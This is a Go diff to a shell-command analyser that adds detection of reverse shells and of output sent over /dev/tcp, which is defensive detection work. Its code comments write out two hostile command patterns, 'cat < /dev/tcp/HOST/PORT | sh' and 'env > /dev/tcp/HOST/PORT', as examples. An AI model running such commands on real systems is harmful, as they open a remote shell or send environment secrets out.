@@ -557,6 +557,11 @@ func (a *analysis) flows() {
 				}
 			}
 		}
+		if c.Stage > 0 && codeFromStdin(c) && a.socketStage(i) {
+			// cat < /dev/tcp/HOST/PORT | sh: the shell runs what the
+			// connection sends, a reverse shell.
+			a.add(Effect{Kind: Flow, Cmd: i, Detail: "socket->shell", Word: c.Name + " runs what a connection sends"})
+		}
 		if f.sink == "" {
 			continue
 		}
@@ -578,6 +583,10 @@ func (a *analysis) flows() {
 		}
 		if sent == "" && f.source != "" && f.sink != "" && len(f.sends) > 0 {
 			sent = f.source
+		}
+		if sent == "" && f.outNet {
+			// env > /dev/tcp/HOST/PORT: all it prints goes out.
+			sent = taint[i]
 		}
 		if sent == "" && f.secretArg && (f.argSend || f.sink == "dns" || f.sink == "network") {
 			// A secret variable whose service is known may only go there;
@@ -611,6 +620,46 @@ func (a *analysis) flows() {
 		}
 		a.add(Effect{Kind: Flow, Cmd: i, Detail: sent + "->" + f.sink, Word: c.Name + " " + strings.Join(f.hosts, " ")})
 	}
+}
+
+// socketStage reports whether an earlier stage of command i's pipeline
+// reads a connection (/dev/tcp as its input or a file it reads).
+func (a *analysis) socketStage(i int) bool {
+	cmds := a.res.Commands
+	for j := range cmds {
+		if j == i || cmds[j].Pipeline != cmds[i].Pipeline || cmds[j].Stage >= cmds[i].Stage {
+			continue
+		}
+		if a.per[j].inNet {
+			return true
+		}
+		for _, p := range a.per[j].reads {
+			if _, ok := devTCP(p); ok {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// codeFromStdin reports whether a command runs the code on its standard
+// input: a shell or interpreter with no script, command string or module
+// named, or given "-" or -s.
+func codeFromStdin(c *shell.Command) bool {
+	if !isShellOrInterp(c.Name) {
+		return false
+	}
+	for _, w := range c.Args {
+		switch {
+		case w == "-" || w == "-s":
+			return true
+		case w == "-c" || w == "-e" || w == "-m" || w == "-r" || w == "-E" || w == "--eval" || w == "--command":
+			return false
+		case !strings.HasPrefix(w, "-"):
+			return false
+		}
+	}
+	return true
 }
 
 // unnamedFile is the taint of output that holds a file the walk could not
